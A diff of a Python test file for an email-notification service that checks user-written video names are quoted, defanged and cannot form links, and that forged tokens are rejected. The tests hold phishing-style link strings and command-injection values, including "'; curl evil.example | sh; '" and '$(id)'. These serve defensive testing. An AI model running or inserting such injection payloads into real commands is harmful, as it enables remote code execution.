@@ -22,7 +22,15 @@ from fotograma_notify.domain import (
     VideoFailedContent,
     VideoProcessedContent,
 )
-from fotograma_notify.letters import MAX_NAME_CHARACTERS, LetterWriter, number, one_line, size
+from fotograma_notify.letters import (
+    MAX_NAME_CHARACTERS,
+    LetterWriter,
+    MalformedToken,
+    number,
+    one_line,
+    quoted,
+    size,
+)
 from fotograma_notify.phrases import ENGLISH, PHRASES, PORTUGUESE
 from fotograma_notify.ports import Letter
 
@@ -68,12 +76,12 @@ def processed(
     [
         (
             Locale.ENGLISH,
-            "Your frames are ready: holiday.mp4",
+            "Your frames are ready: “holiday.mp4”",
             "1,234 frames · ZIP of 12.3 MB",
         ),
         (
             Locale.PORTUGUESE,
-            "Seus quadros estão prontos: holiday.mp4",
+            "Seus quadros estão prontos: “holiday.mp4”",
             "1.234 quadros · ZIP de 12,3 MB",
         ),
     ],
@@ -126,8 +134,8 @@ def test_every_reason_has_its_words_and_a_remedy(reason: Reason, locale: Locale)
 @pytest.mark.parametrize(
     ("locale", "subject"),
     [
-        (Locale.ENGLISH, "Your video will be deleted soon: holiday.mp4"),
-        (Locale.PORTUGUESE, "Seu vídeo será excluído em breve: holiday.mp4"),
+        (Locale.ENGLISH, "Your video will be deleted soon: “holiday.mp4”"),
+        (Locale.PORTUGUESE, "Seu vídeo será excluído em breve: “holiday.mp4”"),
     ],
 )
 def test_a_video_that_expires_is_told_with_its_date(locale: Locale, subject: str) -> None:
@@ -169,7 +177,7 @@ def test_name_cannot_break_out_of_the_subject(name: str) -> None:
     subject = processed(name).subject
     SMTP.header_store_parse("Subject", subject)  # raises for a line break
     assert len(subject.splitlines()) == 1
-    assert subject.removeprefix("Your frames are ready: ") == one_line(name)
+    assert subject.removeprefix("Your frames are ready: ") == quoted(name)
     assert len(one_line(name)) <= MAX_NAME_CHARACTERS
     assert "\u202e" not in subject
 
@@ -276,6 +284,80 @@ def test_a_new_key_is_told_by_its_name_and_first_characters() -> None:
     for text in (letter.text, page.text):
         assert "“nightly <import>”" in text
         assert "fgk_AbCdEfGh" in text
+
+
+LINKS = [
+    "https://evil.example/pay",
+    "HTTP://EVIL.EXAMPLE",
+    "http://203.0.113.9/pay",
+    "www.evil.example",
+    "evil.example",
+    "pay-now.mov",
+    "evil.example.mp4",
+    "mailto:pay@evil.example",
+    "evil\u3002example",
+    "evil\uff0eexample",
+    "//evil.example/x.mp4",
+    "evil.рф",
+]
+LINK = re.compile(r"://|\w[.\u3002\uff0e\uff61](?!mp4$)[^\W\d_]")
+"""What a mail program would make a link of."""
+
+
+@pytest.mark.parametrize("locale", Locale)
+@pytest.mark.parametrize("link", LINKS)
+def test_what_users_write_is_quoted_and_leads_nowhere(link: str, locale: Locale) -> None:
+    name = f"URGENT” your account is locked: visit {link}"
+    until = datetime(2030, 1, 1, tzinfo=UTC)
+    for content in (
+        VideoProcessedContent(VIDEO_ID, name, 1, 1),
+        VideoFailedContent(VIDEO_ID, name, Reason.DAMAGED),
+        VideoExpiringContent(VIDEO_ID, name, until),
+        ApiKeyCreatedContent(name, "fgk_AbCdEfGh"),
+    ):
+        letter = WRITER.write(content, locale)
+        page = read(letter)
+        assert all(found.startswith("https://fotograma.example") for found in page.links)
+        for text in (letter.subject, letter.text, page.text):
+            assert link not in text or link == "//evil.example/x.mp4"
+            found = re.findall("“([^”]*)”", text)
+            assert not any(LINK.search(words) for words in found)
+            assert "URGENT" not in re.sub("“[^”]*”", "", text)
+        assert quoted(name) in letter.text
+
+
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("holiday.mp4", "“holiday.mp4”"),
+        ("Trip 1.2 (final).MKV", "“Trip 1.2 (final).MKV”"),
+        ("a “b” c", '“a "b" c”'),
+        ("https://evil.example", "“https[:]//evil[.]example”"),
+        (" \u202e\n", ""),
+    ],
+)
+def test_a_name_stays_readable(name: str, shown: str) -> None:
+    assert quoted(name) == shown
+
+
+@pytest.mark.parametrize("locale", Locale)
+def test_a_link_to_an_unproved_address_holds_no_words_of_a_user(locale: Locale) -> None:
+    content = VerificationContent("evil.example-pays+now@victim.example", "the-token", UNTIL)
+    letter = WRITER.write(content, locale)
+    assert "evil" not in letter.subject + letter.text + letter.html
+
+
+@pytest.mark.parametrize(
+    "token", ["'; curl evil.example | sh; '", "a'b", "a b", "$(id)", "é", "a\n", "", "x" * 129]
+)
+@pytest.mark.parametrize("locale", Locale)
+def test_a_forged_token_is_not_written_into_a_command(token: str, locale: Locale) -> None:
+    for content in (
+        VerificationContent("ana@example.com", token, UNTIL),
+        PasswordResetContent(token, UNTIL),
+    ):
+        with pytest.raises(MalformedToken):
+            WRITER.write(content, locale)
 
 
 def test_a_token_is_not_printed() -> None:
